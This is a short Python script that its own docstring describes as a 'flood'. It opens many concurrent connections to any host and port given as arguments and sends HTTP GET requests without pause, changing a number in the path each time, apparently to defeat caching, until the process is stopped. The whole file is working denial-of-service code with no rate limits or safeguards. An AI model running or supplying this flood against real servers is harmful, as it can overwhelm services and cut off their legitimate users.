"""A flood: many connections that ask, each again as soon as it is answered. Run as a process, until it is ended.

Arguments: host, port, connections, and the path, in which `{}` is another number each time.
"""

from __future__ import annotations

import asyncio
import itertools
import sys


async def ask(host: str, port: int, path: str, numbers: itertools.count[int]) -> None:
    reader, writer = await asyncio.open_connection(host, port)
    while True:
        target = path.replace("{}", str(next(numbers)))
        writer.write(f"GET {target} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
        head = await reader.readuntil(b"\r\n\r\n")
        length = head.lower().partition(b"content-length: ")[2].partition(b"\r\n")[0]
        await reader.readexactly(int(length))


async def main(host: str, port: str, connections: str, path: str) -> None:
    numbers = itertools.count(1000)
    await asyncio.gather(*(ask(host, int(port), path, numbers) for _ in range(int(connections))))


if __name__ == "__main__":
    asyncio.run(main(*sys.argv[1:]))
